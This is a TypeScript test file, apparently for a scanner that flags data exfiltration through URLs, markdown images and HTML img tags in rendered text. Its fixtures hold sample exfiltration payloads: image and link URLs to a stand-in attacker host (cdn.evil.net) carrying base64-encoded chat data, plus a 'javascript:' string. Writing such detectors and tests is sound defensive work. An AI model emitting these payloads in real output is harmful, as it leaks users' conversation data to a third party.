// The scan's fast path: text in which no renderer could find a URL the rules flag is not parsed. It must never
// skip a text the parser would flag (that is a miss), and should skip plain prose (that is the request path's cost).
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { detectExfiltration, type ExfilScanOptions, nothingToFlag } from './index.js';

const DATA = 'c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdA';

test('plain prose and links to hosts that carry no data are skipped', () => {
  const opts: ExfilScanOptions = { images: 'off-list' };
  assert.equal(nothingToFlag('plain words, nothing else', opts), true);
  assert.equal(nothingToFlag('see https://example.com/docs/page. Then more.', opts), true);
  assert.equal(nothingToFlag('see [docs](https://example.com/docs) here', opts), true);
  assert.equal(nothingToFlag('a time 10:30 and a ratio 1:2', opts), true);
});

test('anything that may be flagged, or that HTML, entities or escapes could change, is parsed', () => {
  const opts: ExfilScanOptions = { images: 'off-list' };
  for (const text of [
    'a <b>tag</b>',
    'an &amp; entity',
    'an \\escape',
    `see https://cdn.evil.net/x?d=${DATA}`,
    `see [a](https://cdn.evil.net/x?d=${DATA}) here`,
    '![x](https://cdn.evil.net/p.png)',
    'words ![x](https://cdn.evil.net/p.png) words',
    '[r]: https://cdn.evil.net/p.png',
    'see https://cdn.evil.net/p.png then [r]: x',
    'javascript:alert(1)',
  ]) {
    assert.equal(nothingToFlag(text, opts), false, text);
  }
});

test('a URL before the first image is judged as a link, one after it as an image', () => {
  const opts: ExfilScanOptions = { images: 'off-list', allowedHosts: ['ok.example'] };
  assert.equal(
    nothingToFlag('see https://cdn.evil.net/p.png and ![x](https://ok.example/a.png)', opts),
    true,
  );
  assert.equal(nothingToFlag('![x](https://ok.example/a.png) and https://cdn.evil.net/p.png', opts), false);
});

test('a URL judged as a link is judged again as an image (the judgement cache keeps them apart)', () => {
  const opts: ExfilScanOptions = { images: 'off-list' };
  const text = 'https://cdn.evil.net/p.png ![x](https://cdn.evil.net/p.png)';
  const found = detectExfiltration(text, opts).map((f) => [text.slice(f.start, f.end), f.kind]);
  assert.deepEqual(found, [['![x](https://cdn.evil.net/p.png)', 'off-list-image']]);
});

test('options: skipCode off reads code too, html off leaves tags alone', () => {
  const img = `![x](https://cdn.evil.net/p.png?d=${DATA})`;
  const fenced = `\`\`\`\n${img}\n\`\`\``;
  assert.deepEqual(detectExfiltration(fenced), []);
  assert.deepEqual(
    detectExfiltration(fenced, { skipCode: false }).map((f) => f.kind),
    ['image-exfiltration'],
  );
  const tag = '<img src="https://cdn.evil.net/h.png">';
  assert.equal(
    detectExfiltration(`\`\`\`\n${tag}\n\`\`\``, { skipCode: false }).length,
    1,
    'HTML in code too',
  );
  assert.equal(detectExfiltration(tag).length, 1);
  assert.deepEqual(detectExfiltration(tag, { html: false }), []);
});

test('the page reading: a tag split by a blank line, bare www. URLs, code spans blanked for it', () => {
  const split = '<img\n\nsrc="https://cdn.evil.net/h.png">';
  assert.deepEqual(
    detectExfiltration(split).map((f) => f.kind),
    ['off-list-image'],
    'a page reads one tag across the blank line that ends a markdown paragraph',
  );
  const www = `see www.cdn.evil.net/x?d=${DATA} now`;
  assert.deepEqual(
    detectExfiltration(www).map((f) => www.slice(f.start, f.end)),
    [`www.cdn.evil.net/x?d=${DATA}`],
  );
  const spans = '`<img src="https://cdn.evil.net/a.png">` and `<img src="https://cdn.evil.net/b.png">`';
  assert.deepEqual(detectExfiltration(spans), [], 'both code spans are code for the page reading too');
  assert.deepEqual(
    detectExfiltration(`\`https://cdn.evil.net/x?d=${DATA}\``),
    [],
    'a bare URL filling a code span',
  );
});
